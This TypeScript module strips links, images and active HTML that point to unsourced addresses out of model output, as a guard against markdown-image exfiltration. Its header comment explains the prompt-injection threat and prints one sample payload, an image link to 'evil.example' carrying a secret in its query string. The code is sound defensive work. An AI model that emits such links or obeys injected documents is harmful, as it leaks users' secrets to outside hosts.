/**
 * Turns links and images whose address no source holds into plain text. A model that obeys an
 * injected document could otherwise make a chat client fetch
 * `![x](https://evil.example/?d=secret)`, or lead a reader astray. What is live is judged by a
 * parser of CommonMark, as clients have one, not by what links usually look like.
 */
import MarkdownParser from "markdown-it";
import { kindOfFile } from "../formats/document-formats.js";
import { withoutEnding } from "../text/words.js";
import type { Range } from "../text/passage-blocks.js";

/** A replacement for `text.slice(start, end)`. */
export interface Edit extends Range {
  readonly text: string;
}

/** Reads as the most generous client does: HTML, bare addresses, any scheme. */
const client = new MarkdownParser({ html: true, linkify: true });
client.validateLink = () => true;
client.normalizeLink = (address) => address;

/** 1 label and 2 address of a link or an image; 3 a tag with attributes. */
const LINK = new RegExp(
  `!?\\[([^\\]\\n]{0,300})\\]\\([^\\S\\n]{0,5}<?([^\\s)>]{1,1500})(?:[>\\s][^)\\n]{0,300})?\\)` +
    `|(<(?=(?:script|style)\\b|[a-z][^\\s<>/]{0,60}[\\s/]{1,20}[^\\s>/]))`,
  "giu",
);
/** Signs that end a sentence or a word in bold rather than an address. */
const BEHIND_ADDRESS = ".,;:!?'*_";
const ADDRESS =
  /(?:https?:\/\/|www\.)[^\s<>`"“”)\]]+|[\p{L}\p{N}._%+-]+@[\p{L}\p{N}-]+\.[\p{L}\p{N}.-]+/giu;
/** A tag that does something. */
const ACTIVE_TAG = /<(?:script|style)\b|<[a-z][^\s<>/]*[\s/]+[^\s>/]/iu;

/**
 * Returns the edits of a text: of each block in which something foreign is live, those that read
 * well. If something still is live then, the block is shown as code.
 * @param sources texts and addresses of the evidence that may be linked to
 */
export function foreignLinks(text: string, sources: readonly string[]): Edit[] {
  return blocksIn(text).flatMap(({ start, end }) => {
    const block = text.slice(start, end);
    if (!isLive(block, sources)) return [];
    const edits = readableEdits(block, sources);
    const edited = applyEdits(block, edits);
    if (isLive(edited, sources)) return [{ start, end, text: asCode(edited) }];
    return edits.map((edit) => ({ ...edit, start: start + edit.start, end: start + edit.end }));
  });
}

/** The blocks of the top level, and the lines between them, which define references. */
export function blocksIn(text: string): Range[] {
  const starts = lineStarts(text);
  const maps = client.parse(text, {}).flatMap(({ level, map }) => (level === 0 && map ? map : []));
  const borders = [
    ...new Set([0, ...maps.map((line) => starts[line] ?? text.length), text.length]),
  ];
  return borders.flatMap((start, index) => {
    const end = borders[index + 1];
    return end === undefined || text.slice(start, end).trim() === "" ? [] : [{ start, end }];
  });
}

/** True if a client would make something of a text that leads where no source leads. */
export function isLive(text: string, sources: readonly string[]): boolean {
  const env: { references?: Record<string, { href: string }> } = {};
  const tokens = client.parse(text, env).flatMap((token) => [token, ...(token.children ?? [])]);
  const isForeign = (address: string | null): boolean =>
    address !== null && !isKnown(address.replace(/^(?:http:\/\/|mailto:)/, ""), sources);
  return (
    Object.values(env.references ?? {}).some(({ href }) => isForeign(href)) ||
    tokens.some(
      (token, at) =>
        (!(token.markup === "linkify" && isFileName(tokens[at + 1]?.content)) &&
          isForeign(token.attrGet("href"))) ||
        isForeign(token.attrGet("src")) ||
        (token.type.startsWith("html_") && ACTIVE_TAG.test(token.content)),
    )
  );
}

/** True for `README.md`, which looks like a host in Moldova; not for `evil.example/README.md`. */
function isFileName(name = ""): boolean {
  return name.split(".").length === 2 && kindOfFile(name) !== "text";
}

/** True if a source has the address, not only the beginning or the end of another. */
function isKnown(address: string, sources: readonly string[]): boolean {
  return sources.some((source) => {
    for (let at = source.indexOf(address); at !== -1; at = source.indexOf(address, at + 1)) {
      const before = source.slice(Math.max(0, at - 2), at);
      const behind = source.slice(at + address.length, at + address.length + 4);
      if (!/[\p{L}\p{N}_.-]$/u.test(before) && !/^\.?[\p{L}\p{N}_-]/u.test(behind)) return true;
    }
    return false;
  });
}

/** Links become their labels, bare addresses code, and tags text. */
function readableEdits(block: string, sources: readonly string[]): Edit[] {
  const quietAt = quietPlaces(block);
  const edits = [...block.matchAll(LINK)].flatMap(
    ({ 0: whole, 1: label, 2: address, index: start }): Edit[] => {
      if (quietAt(start).includes("`")) return [];
      // With a space behind it, it opens no tag.
      if (address === undefined) return [{ start, end: start + 1, text: "< " }];
      if (isKnown(address, sources)) return [];
      // In a formula, `f[x](t)` is no link, and with an empty group in it clients know.
      const middle = start + whole.indexOf("](") + 1;
      return quietAt(start) !== ""
        ? [{ start: middle, end: middle, text: "{}" }]
        : [{ start, end: start + whole.length, text: label ?? "" }];
    },
  );
  const bare = bareAddresses(block).flatMap(({ index, raw }): Edit[] =>
    quietAt(index).includes("`") || isFileName(raw) || isKnown(raw, sources)
      ? []
      : [{ start: index, end: index + raw.length, text: `\`${raw}\`` }],
  );
  return [...edits, ...bare];
}

/** What stands there as an address, and what clients take for one. */
function bareAddresses(text: string): { index: number; raw: string }[] {
  const written = [...text.matchAll(ADDRESS)].map(({ 0: whole, index }) => {
    return { index, raw: withoutEnding(whole, BEHIND_ADDRESS) };
  });
  return [...written, ...(client.linkify.match(text) ?? [])];
}

function lineStarts(text: string): number[] {
  return [0, ...[...text.matchAll(/\r\n|\r|\n/gu)].map(({ index, 0: end }) => index + end.length)];
}

function asCode(block: string): string {
  const longest = Math.max(2, ...[...block.matchAll(/`+/gu)].map(([ticks]) => ticks.length));
  const fence = "`".repeat(longest + 1);
  return `${fence}\n${block.trimEnd()}\n${fence}\n`;
}

export function addressesIn(text: string): string[] {
  return (text.match(ADDRESS) ?? []).map((each) => withoutEnding(each, BEHIND_ADDRESS));
}

/** True for a text that sends its reader to an address; `README.md` is the name of a file. */
export function holdsAddress(text: string): boolean {
  return bareAddresses(text).some(({ raw }) => !/^[^/@]+\.\p{L}{2}$/u.test(raw));
}

/** Applies the edits between `from` and `to`; of two that overlap, the first wins. */
export function applyEdits(
  text: string,
  edits: readonly Edit[],
  from = 0,
  to = text.length,
): string {
  let out = "";
  let at = from;
  for (const edit of [...edits].sort((a, b) => a.start - b.start)) {
    if (edit.start < at || edit.end > to) continue;
    out += text.slice(at, edit.start) + edit.text;
    at = edit.end;
  }
  return out + text.slice(at, to);
}

const FENCE = /(?<![^\n])[^\S\n]*(?:```|~~~|\$\$|\\\[|\\\])/gu;
/** `$x \in` opens a formula; `$5`, `$US` and `$AAPL rose` do not. */
const NO_FORMULA = /^(?:[\s\d]|\p{Lu}{1,5}\s|$)/u;

/**
 * Returns which places are in code or a formula, where brackets and addresses are left alone.
 * Judges by the text before a place only, so that a streamed text is read like a whole one, and
 * reads on from the last place, so that places in ascending order take linear time.
 * @returns for each place the signs that opened what it is in; empty in plain text
 */
export function quietPlaces(text: string): (at: number) => string {
  const fences = [...text.matchAll(FENCE)].map(({ index }) => index);
  let fencesBefore = 0;
  let next = 0;
  let open = { code: false, formula: false, dollars: false };
  return (at) => {
    if (at < next) [fencesBefore, next] = [0, 0];
    while ((fences[fencesBefore] ?? at) < at) fencesBefore += 1;
    for (; next < at; next += 1) {
      const [before, sign] = [text.charAt(next - 1), text.charAt(next)];
      if (sign === "\n" || next === 0) open = { code: false, formula: false, dollars: false };
      if (sign === "`" && before !== "`") open.code = !open.code;
      else if (before === "\\" && "()".includes(sign)) open.formula = sign === "(";
      else if (sign === "$" && open.dollars) open.dollars = before.trim() === "";
      else if (sign === "$") open.dollars = !NO_FORMULA.test(text.slice(next + 1, next + 8));
    }
    const inLine = `${open.formula ? "\\(" : ""}${open.code ? "`" : ""}${open.dollars ? "$x" : ""}`;
    return fencesBefore % 2 === 1 ? `\`\`\`\n${inLine}` : inLine;
  };
}
